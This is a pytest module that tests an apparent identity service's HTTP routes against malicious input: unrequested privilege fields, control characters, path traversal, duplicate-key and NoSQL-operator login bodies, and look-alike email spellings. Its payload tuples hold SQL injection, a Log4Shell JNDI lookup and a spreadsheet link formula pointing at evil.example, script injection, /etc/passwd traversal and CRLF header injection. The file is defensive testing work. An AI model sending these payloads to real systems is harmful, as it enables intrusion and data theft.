"""Attacks with input: members nobody asked for, and odd or endless text in every field.

They are made from the routes, so a new route is attacked as soon as there is one.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator, Mapping
from typing import Any, Final, get_args
from uuid import UUID

import asyncpg
import httpx2
import msgspec
import pytest
import pytest_asyncio

from guilder.platform.db import Database
from guilder.platform.http.route import Route
from guilder.platform.identifiers import new_id
from guilder.platform.permissions import ROLES
from tests.support.street import Ids, Street, email_of, opened, sent_to
from tests.support.town import PASSWORD, data, error

PRIVILEGES: Final[Mapping[str, Any]] = {
    "role": "admin",
    "roles": ["admin"],
    "permissions": ["ledger:write"],
    "scope": "ledger:write",
    "scopes": ["ledger:write"],
    "is_admin": True,
    "status": "active",
    "account_type": "staff",
    "id": str(new_id()),
    "user_id": str(new_id()),
    "owner_id": str(new_id()),
    "customer_id": str(new_id()),
    "kyc": {"status": "approved"},
    "kyc_status": "approved",
    "email_verified": True,
    "email_verified_at": "2026-11-20T00:00:00Z",
    "mfa_required": False,
    "password_hash": "$argon2id$v=19$m=64,t=1,p=1$AAAA$AAAA",
    "created_at": "2000-01-01T00:00:00Z",
    "sid": str(new_id()),
    "__proto__": {"role": "admin"},
    "Role": "admin",
    "role\u200b": "admin",
}
IMPOSSIBLE: Final = ("a\0b", "\0", "a\ud800b", "\udfff")
"""Text that no field can hold: it is refused before anybody looks at it."""
UNSEEMLY: Final = (
    "a\nb",
    "a\rSet-Cookie: b=c",
    "a\tb",
    "a\x1b[2Jb",
    "a\x7fb",
    "a\u0085b",
    "a\u2028b",
    "a\u202eb",
    "a\u2066b",
    "a\u200bb",
    "\ufeffa",
    "",
    " ",
    "x" * 100_000,
    "ﷺ" * 5_000,
    "a" + "\u0301" * 5_000,
    "😀" * 30_000,
)
"""Text that would lie to whoever reads it, or has no end, or says nothing."""
ODD: Final = (
    "' OR 1=1; DROP TABLE identity.users; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "=HYPERLINK('https://evil.example')",
    "../../../../etc/passwd",
    "%00%0a",
    "Ａｎｎａ",  # noqa: RUF001 - full width letters
    "\u212aelvin",
    "ı",  # noqa: RUF001 - a dotless i, whose capital is another letter's
    "ß",
    "٣٤٥",
    "👩‍👩‍👧‍👦",
    "-1",
    "null",
    "1e400",
)
IN_A_PATH: Final = (
    "%00",
    "%ed%a0%80",
    "%c0%ae%c0%ae%2f",
    "..%2f..%2fetc",
    "%0d%0aSet-Cookie:%20a=b",
    "'%20OR%201=1",
    "null",
    "0",
    "-1",
    "%7B01939f6e-5a7c-7d60-8c1e-7a5d0f3f9a11%7D",
    "x" * 4_000,
    "%F0%9F%98%80",
)
LONGEST_ANSWER: Final = 8_000
"""An error tells what is wrong and does not send back what it was sent."""


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def street(db: Database, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Street]:
    async with opened(db, tmp_path_factory.mktemp("street")) as made:
        yield made


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def token(street: Street) -> str:
    """Anna's, who may do everything: nobody is refused for another reason than the input."""
    anna_id = await street.register("Anna", "+919876500310")
    return await street.token(UUID(anna_id), roles=ROLES)


def identity(street: Street) -> Iterator[Route]:
    (module,) = (module for module in street.house.modules if module.name == "identity")
    return iter(module.routes)


async def send(
    street: Street, route: Route, body: Mapping[str, Any], *, token: str
) -> httpx2.Response:
    """The body as it is, whatever is in it."""
    return await street.http.request(
        route.method,
        ("" if route.at_root else "/api/v1") + route.path.format_map(Ids()),
        content=json.dumps(body).encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )


async def forget_tries(superuser: asyncpg.Connection) -> None:
    await superuser.execute("DELETE FROM identity.sign_in_failures")
    await superuser.execute("DELETE FROM identity.code_issues")


def text_fields(route: Route) -> list[str]:
    """The members of a route's body that take text."""
    if route.body is None:
        return []
    fields = msgspec.structs.fields(route.body)
    return [field.encode_name for field in fields if _takes_text(field.type)]


def _takes_text(type_: Any) -> bool:
    return type_ in {str, UUID} or any(_takes_text(part) for part in get_args(type_))


async def test_no_route_takes_a_member_that_it_does_not_declare(street: Street, token: str) -> None:
    taken, tried = [], 0
    for route in identity(street):
        if route.body is None:
            continue
        declared = {field.encode_name for field in msgspec.structs.fields(route.body)}
        for name, value in PRIVILEGES.items():
            if name in declared:
                continue
            tried += 1
            body = {**(sent_to(route) or {}), name: value}
            answer = await send(street, route, body, token=token)
            if answer.status_code != 400 or not _names(answer, name):
                taken.append((route.method, route.path, name, answer.status_code))

    assert taken == []
    assert tried > 300


def _names(answer: httpx2.Response, name: str) -> bool:
    """Whether a refusal names the member, which it does where it can be shown."""
    return not name.isascii() or name in answer.json()["error"]["details"]["fields"]


def test_who_registers_or_changes_their_profile_states_no_privilege(street: Street) -> None:
    own = {"POST /auth/register", "PATCH /auth/me"}
    bodies = {f"{route.method} {route.path}": route.body for route in identity(street)}

    for name in own:
        assert not set(bodies[name].__struct_fields__) & set(PRIVILEGES), name
    assert own <= set(bodies)


async def test_what_is_stated_elsewhere_than_in_the_body_changes_nobody(street: Street) -> None:
    body = {
        "email": "mala@street.example",
        "phone": "+919876500311",
        "full_name": "Mala Rao",
        "password": PASSWORD,
    }
    headers = {"X-Role": "admin", "X-User-Role": "admin", "X-Account-Type": "staff"}

    answer = await street.http.post(
        "/api/v1/auth/register?role=admin&status=active", json=body, headers=headers
    )

    if answer.status_code == 201:
        login = await street.login("Mala")
        assert login["user"]["roles"] == ["customer"]
        assert login["user"]["status"] == "pending"
    else:
        error(answer, 400)


@pytest.mark.parametrize(
    "body",
    [
        '{"email": "ben@street.example", "email": "anna@street.example", "password": "x"}',
        '{"email": ["anna@street.example"], "password": "x"}',
        '{"email": {"$ne": null}, "password": {"$ne": null}}',
        '{"email": true, "password": 7}',
        '[{"email": "anna@street.example"}]',
        '{"email": "anna@street.example", "password": null}',
    ],
)
async def test_a_body_of_two_meanings_signs_nobody_in(body: str, street: Street) -> None:
    answer = await street.http.post(
        "/api/v1/auth/login", content=body, headers={"Content-Type": "application/json"}
    )

    assert error(answer, 400)["code"] in {"BAD_REQUEST", "VALIDATION_ERROR"}


async def test_a_form_is_not_taken_for_json(street: Street) -> None:
    form = {"email": email_of("Anna"), "password": PASSWORD}

    answer = await street.http.post("/api/v1/auth/login", data=form)

    assert error(answer, 415)["code"] == "UNSUPPORTED_MEDIA_TYPE"


@pytest.mark.parametrize(
    "texts", [IMPOSSIBLE, UNSEEMLY, ODD], ids=["impossible", "unseemly", "odd"]
)
async def test_no_text_in_any_field_breaks_a_route(
    texts: tuple[str, ...], street: Street, token: str, superuser: asyncpg.Connection
) -> None:
    broken, tried = [], 0
    for route in identity(street):
        for name in text_fields(route):
            await forget_tries(superuser)
            for text in texts:
                tried += 1
                answer = await send(
                    street, route, {**(sent_to(route) or {}), name: text}, token=token
                )
                if _is_wrong(answer, texts):
                    said = (answer.status_code, answer.text[:200])
                    broken.append((route.method, route.path, name, ascii(text[:20]), said))

    assert broken == []
    assert tried > 100


def _is_wrong(answer: httpx2.Response, texts: tuple[str, ...]) -> bool:
    if answer.status_code >= 500 or len(answer.content) > LONGEST_ANSWER:
        return True
    return texts is IMPOSSIBLE and answer.status_code != 400


async def test_no_text_in_any_path_breaks_a_route(street: Street, token: str) -> None:
    broken, tried = [], 0
    for route in identity(street):
        if "{" not in route.path:
            continue
        for text in IN_A_PATH:
            tried += 1
            path = "/api/v1" + route.path.format_map(Constant(text))
            answer = await street.http.request(
                route.method, path, headers={"Authorization": f"Bearer {token}"}
            )
            if answer.status_code >= 500 or answer.is_success:
                broken.append((route.method, path[:120], answer.status_code))

    assert broken == []
    assert tried > 100


class Constant(dict[str, str]):
    """The same for every parameter of a path."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self._text = text

    def __missing__(self, name: str) -> str:
        return self._text


@pytest.mark.parametrize(
    "spelling",
    [
        "KIRA@STREET.EXAMPLE",
        "kira@STREET.example",
        " kira@street.example ",
        "\u212aira@street.example",
        "ｋｉｒａ@street.example",  # noqa: RUF001 - full width letters
        "kira@ｓｔｒｅｅｔ.example",  # noqa: RUF001 - full width letters
        "kira@street。example",
        "kira@street.example.",
        "ki\u200bra@street.example",
        "ki\u00adra@street.example",
        "kira\u202e@street.example",
        "kira@street.example\n",
        "kira@street.example,evil@evil.example",
        "kira@street.example@evil.example",
        '"kira"@street.example',
        "kira(comment)@street.example",
    ],
    ids=ascii,
)
async def test_no_spelling_of_somebodys_email_is_anybody_elses(
    spelling: str, street: Street, superuser: asyncpg.Connection
) -> None:
    kira = {"full_name": "Kira Rao", "password": PASSWORD}
    first = {**kira, "email": "kira@street.example", "phone": "+919876500312"}
    await street.ask("POST", "/auth/register", token=None, body=first)
    await forget_tries(superuser)
    other = {**kira, "email": spelling, "phone": "+919876500313"}

    answer = await street.ask("POST", "/auth/register", token=None, body=other)

    assert answer.status_code in {400, 409}, answer.text


async def test_nothing_that_was_sent_is_kept_as_it_must_not_be(
    street: Street, token: str, superuser: asyncpg.Connection
) -> None:
    rows = await superuser.fetch("SELECT data::text FROM platform.outbox")

    said = "\n".join(row[0] for row in rows)
    assert PASSWORD not in said
    assert not any(mark in said for mark in ("\\u202e", "\u202e", "\\u001b"))
    assert data(await street.ask("GET", "/auth/me", token=token))["roles"] == ["customer"]
